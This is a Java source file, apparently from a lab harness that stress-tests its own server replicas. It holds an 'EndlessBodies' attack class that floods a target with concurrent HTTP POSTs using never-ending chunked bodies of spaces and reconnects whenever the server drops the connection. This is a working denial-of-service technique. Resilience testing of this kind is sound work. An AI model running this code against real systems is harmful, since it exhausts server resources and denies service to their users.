package org.understudy.lab.attack;

import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;

/** Chunked bodies that never end, each as fast as its replica reads it. A connection that the replica ends is followed by another one. */
final class EndlessBodies implements Attack {
  private static final int CHUNK_BYTES = 65_536;

  private final String name;
  private final int connections;
  private final String path;
  private final String type;
  private final String begun;

  /**
   * @param connections at a time
   * @param type of the content
   * @param begun the beginning of each body, which is followed by spaces
   */
  EndlessBodies(String name, int connections, String path, String type, String begun) {
    this.name = name;
    this.connections = connections;
    this.path = path;
    this.type = type;
    this.begun = begun;
  }

  @Override
  public String name() {
    return name;
  }

  @Override
  public void run(Target target, Tally tally, Deadline deadline) throws InterruptedException {
    Attack.together(connections, i -> () -> {
      while (!deadline.passed()) {
        send(target, tally, deadline);
      }
    });
  }

  private void send(Target target, Tally tally, Deadline deadline) {
    tally.sent();
    try (Socket socket = target.connect(target.replica())) {
      if (!isEnded(socket.getOutputStream(), deadline)) {
        return;
      }
      tally.answered(Target.Answer.read(socket.getInputStream()));
    } catch (IOException e) {
      tally.closed();
    }
  }

  /** Sends until the replica closes the connection. Returns false if it has not at the deadline. */
  private boolean isEnded(OutputStream out, Deadline deadline) {
    byte[] spaces = chunk(" ".repeat(CHUNK_BYTES));
    try {
      out.write(Attacks.post(path, type, "Transfer-Encoding: chunked\r\n\r\n"));
      out.write(chunk(begun));
      while (!deadline.passed()) {
        out.write(spaces);
      }
      return false;
    } catch (IOException e) {
      return true;
    }
  }

  private static byte[] chunk(String text) {
    return Attacks.ascii(Integer.toHexString(text.length()) + "\r\n" + text + "\r\n");
  }
}
